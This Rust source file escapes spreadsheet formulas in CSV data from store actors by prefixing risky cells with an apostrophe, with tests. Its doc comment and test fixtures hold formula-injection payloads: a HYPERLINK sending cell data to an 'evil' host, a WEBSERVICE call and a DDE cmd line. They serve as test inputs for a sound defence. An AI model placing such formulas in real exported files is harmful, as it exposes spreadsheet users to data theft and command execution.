//! Spreadsheet formulas from Actor data, made harmless. A Store Actor can output a cell such as
//! `=HYPERLINK("https://evil/?"&B2,"Open")`, which a spreadsheet runs when the rows are pasted or
//! opened. OWASP's rule: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading `'`, which spreadsheets show as nothing and which makes the cell text.
//! Plain numbers such as `-3.5` stay numbers.

use std::borrow::Cow;

/// `text` as a spreadsheet will read it as text, never as a formula.
pub fn defused(text: &str) -> Cow<'_, str> {
    let risky = match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !is_plain_number(text),
        _ => false,
    };
    if risky {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A sign, digits, at most one decimal point and an exponent: what a spreadsheet reads as a
/// number and nothing else.
fn is_plain_number(text: &str) -> bool {
    let body = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (body, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, fraction)) => {
            (digits(whole) || whole.is_empty())
                && (digits(fraction) || fraction.is_empty())
                && !(whole.is_empty() && fraction.is_empty())
        }
        None => digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| digits(e.strip_prefix(['+', '-']).unwrap_or(e)));
    mantissa_ok && exponent_ok
}

/// Defuses the cells of a CSV (or tab-separated) file as its bytes stream by: every field is
/// looked at where it begins, quoted or not, and a `'` is put before one that would start a
/// formula. Everything else passes byte for byte, so a file without such cells is the API's
/// own. It holds back at most a short number's worth of bytes (deciding whether `-…` is a
/// number), so memory stays flat whatever the file's size. A new answer starts a new one.
pub struct CsvDefuser {
    delimiter: u8,
    state: State,
    /// The start of a field that begins with `+` or `-`, until it shows whether it is a number.
    held: Vec<u8>,
    /// Nothing seen yet: a BOM may come first.
    at_start: bool,
}

/// A number longer than this is not a plain number a spreadsheet shows as such: it is text.
const MAX_NUMBER_BYTES: usize = 64;

#[derive(Clone, Copy, PartialEq, Eq)]
enum State {
    /// Where a field begins.
    FieldStart,
    /// Just after a field's opening quote.
    QuotedStart,
    /// Inside a quoted field.
    Quoted,
    /// A quote inside a quoted field: doubled, or the field's end.
    QuoteInQuoted,
    /// Inside an unquoted field.
    Unquoted,
    /// Deciding on a field that begins with a sign (`quoted` says how it is written).
    Sign { quoted: bool },
}

const BOM: &[u8] = b"\xEF\xBB\xBF";

impl CsvDefuser {
    pub fn new(delimiter: u8) -> Self {
        Self {
            delimiter,
            state: State::FieldStart,
            held: Vec::new(),
            at_start: true,
        }
    }

    /// Appends to `out` what `bytes` become.
    pub fn push(&mut self, bytes: &[u8], out: &mut Vec<u8>) {
        if self.at_start {
            // A BOM may arrive split across chunks; it is held until it shows whole or not.
            self.held.extend_from_slice(bytes);
            if self.held.len() < BOM.len() && BOM.starts_with(&self.held) {
                return;
            }
            self.at_start = false;
            let held = std::mem::take(&mut self.held);
            let rest = match held.strip_prefix(BOM) {
                Some(rest) => {
                    out.extend_from_slice(BOM);
                    rest.to_vec()
                }
                None => held,
            };
            return self.push_bytes(&rest, out);
        }
        self.push_bytes(bytes, out);
    }

    fn push_bytes(&mut self, bytes: &[u8], out: &mut Vec<u8>) {
        out.reserve(bytes.len() + 8);
        for &byte in bytes {
            self.byte(byte, out);
        }
    }

    /// The end of the answer: what was held back goes out as it is decided.
    pub fn finish(&mut self, out: &mut Vec<u8>) {
        if self.at_start {
            self.at_start = false;
            out.extend_from_slice(&std::mem::take(&mut self.held));
        }
        if let State::Sign { .. } = self.state {
            let ends_number = is_plain_number_bytes(&self.held);
            self.release(!ends_number, out);
        }
        self.state = State::FieldStart;
    }

    fn byte(&mut self, byte: u8, out: &mut Vec<u8>) {
        let delimiter = self.delimiter;
        match self.state {
            State::FieldStart => {
                if byte == b'"' {
                    out.push(byte);
                    self.state = State::QuotedStart;
                } else if byte == delimiter || byte == b'\n' || byte == b'\r' {
                    out.push(byte);
                } else {
                    self.first(byte, false, out);
                }
            }
            State::QuotedStart => {
                if byte == b'"' {
                    // An empty quoted field, or one that starts with a doubled quote.
                    out.push(byte);
                    self.state = State::QuoteInQuoted;
                } else {
                    self.first(byte, true, out);
                }
            }
            State::Quoted => {
                out.push(byte);
                if byte == b'"' {
                    self.state = State::QuoteInQuoted;
                }
            }
            State::QuoteInQuoted => {
                out.push(byte);
                self.state = if byte == b'"' {
                    State::Quoted
                } else if byte == delimiter || byte == b'\n' || byte == b'\r' {
                    State::FieldStart
                } else {
                    State::Unquoted
                };
            }
            State::Unquoted => {
                out.push(byte);
                if byte == delimiter || byte == b'\n' || byte == b'\r' {
                    self.state = State::FieldStart;
                }
            }
            State::Sign { quoted } => {
                let ends = if quoted {
                    byte == b'"'
                } else {
                    byte == delimiter || byte == b'\n' || byte == b'\r'
                };
                if ends {
                    let number = is_plain_number_bytes(&self.held);
                    self.release(!number, out);
                    // The byte that ended the field is seen again where it belongs.
                    self.state = if quoted {
                        State::Quoted
                    } else {
                        State::Unquoted
                    };
                    self.byte(byte, out);
                } else if byte.is_ascii_digit() || b".eE+-".contains(&byte) {
                    self.held.push(byte);
                    if self.held.len() > MAX_NUMBER_BYTES {
                        self.release(true, out);
                        self.state = if quoted {
                            State::Quoted
                        } else {
                            State::Unquoted
                        };
                    }
                } else {
                    // Not a number: text that begins with a sign, which a spreadsheet would run.
                    self.release(true, out);
                    self.state = if quoted {
                        State::Quoted
                    } else {
                        State::Unquoted
                    };
                    self.byte(byte, out);
                }
            }
        }
    }

    /// The first byte of a field's content.
    fn first(&mut self, byte: u8, quoted: bool, out: &mut Vec<u8>) {
        let next = if quoted {
            State::Quoted
        } else {
            State::Unquoted
        };
        match byte {
            b'=' | b'@' | b'\t' | b'\r' => {
                out.push(b'\'');
                self.state = next;
                // A quoted field's carriage return is content; an unquoted one never gets here.
                self.byte(byte, out);
            }
            b'+' | b'-' => {
                self.held.clear();
                self.held.push(byte);
                self.state = State::Sign { quoted };
            }
            _ => {
                self.state = next;
                self.byte(byte, out);
            }
        }
    }

    /// Sends what was held back, after a `'` when it turned out to be text.
    fn release(&mut self, defuse: bool, out: &mut Vec<u8>) {
        if defuse {
            out.push(b'\'');
        }
        out.append(&mut self.held);
    }
}

fn is_plain_number_bytes(bytes: &[u8]) -> bool {
    std::str::from_utf8(bytes).is_ok_and(is_plain_number)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_prefix_is_defused_and_numbers_stay_numbers() {
        for hostile in [
            "=HYPERLINK(\"https://evil/?\"&B2,\"Open\")",
            "=WEBSERVICE(\"https://evil\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "+",
        ] {
            assert_eq!(defused(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for harmless in [
            "-3.5",
            "+7",
            "-1e5",
            "2.5E-3",
            "-.5",
            "plain",
            "",
            "a=b",
            "'=already",
        ] {
            assert_eq!(defused(harmless), harmless, "{harmless:?}");
        }
    }

    fn defuse_whole(csv: &[u8], delimiter: u8) -> Vec<u8> {
        let mut out = Vec::new();
        let mut defuser = CsvDefuser::new(delimiter);
        defuser.push(csv, &mut out);
        defuser.finish(&mut out);
        out
    }

    /// The cells of a CSV file, quotes undone, as a spreadsheet reads them.
    fn cells(csv: &str, delimiter: char) -> Vec<Vec<String>> {
        let csv = csv.strip_prefix('\u{feff}').unwrap_or(csv);
        let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
        let (mut quoted, mut chars) = (false, csv.chars().peekable());
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' if quoted => quoted = false,
                '"' if cell.is_empty() => quoted = true,
                c if !quoted && c == delimiter => row.push(std::mem::take(&mut cell)),
                '\r' if !quoted => {}
                '\n' if !quoted => {
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                }
                c => cell.push(c),
            }
        }
        if !cell.is_empty() || !row.is_empty() {
            row.push(cell);
            rows.push(row);
        }
        rows
    }

    const HOSTILE: &str = "\u{feff}name,link,note,price,signed\r\n\
        =cmd,\"=HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"Open\"\")\",\"two\nlines, and a comma\",-3.5,+1+1\r\n\
        @SUM(A1),\"-2+3\",\t=1,\"-7\",\"\r=1\"\r\n\
        plain,\"\",,1e5,-\r\n";

    #[test]
    fn a_csv_file_loses_its_formulas_and_nothing_else() {
        let out = String::from_utf8(defuse_whole(HOSTILE.as_bytes(), b',')).unwrap();
        assert_eq!(
            out,
            "\u{feff}name,link,note,price,signed\r\n\
             '=cmd,\"'=HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"Open\"\")\",\"two\nlines, and a comma\",-3.5,'+1+1\r\n\
             '@SUM(A1),\"'-2+3\",'\t=1,\"-7\",\"'\r=1\"\r\n\
             plain,\"\",,1e5,'-\r\n"
        );
        // Read back as a spreadsheet would: no cell starts a formula, and the rest is whole.
        let rows = cells(&out, ',');
        assert_eq!(rows.len(), 4);
        assert_eq!(rows[1][2], "two\nlines, and a comma");
        assert_eq!(rows[1][3], "-3.5");
        assert_eq!(rows[2][3], "-7");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
            assert!(
                !cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn a_file_without_formulas_passes_byte_for_byte() {
        let clean = "\u{feff}id,title,price\r\n1,\"Lamp, \"\"Nova\"\"\",-3.5\r\n2,Desk,7\r\n";
        assert_eq!(defuse_whole(clean.as_bytes(), b','), clean.as_bytes());
        let tabs = "id\ttitle\n1\t=x\n";
        assert_eq!(defuse_whole(tabs.as_bytes(), b'\t'), b"id\ttitle\n1\t'=x\n");
    }

    #[test]
    fn chunks_split_anywhere_give_the_same_file() {
        let whole = defuse_whole(HOSTILE.as_bytes(), b',');
        let bytes = HOSTILE.as_bytes();
        for at in 0..=bytes.len() {
            let mut out = Vec::new();
            let mut defuser = CsvDefuser::new(b',');
            defuser.push(&bytes[..at], &mut out);
            defuser.push(&bytes[at..], &mut out);
            defuser.finish(&mut out);
            assert_eq!(out, whole, "split at {at}");
        }
        let mut out = Vec::new();
        let mut defuser = CsvDefuser::new(b',');
        for byte in bytes {
            defuser.push(std::slice::from_ref(byte), &mut out);
        }
        defuser.finish(&mut out);
        assert_eq!(out, whole, "byte by byte");
    }
}
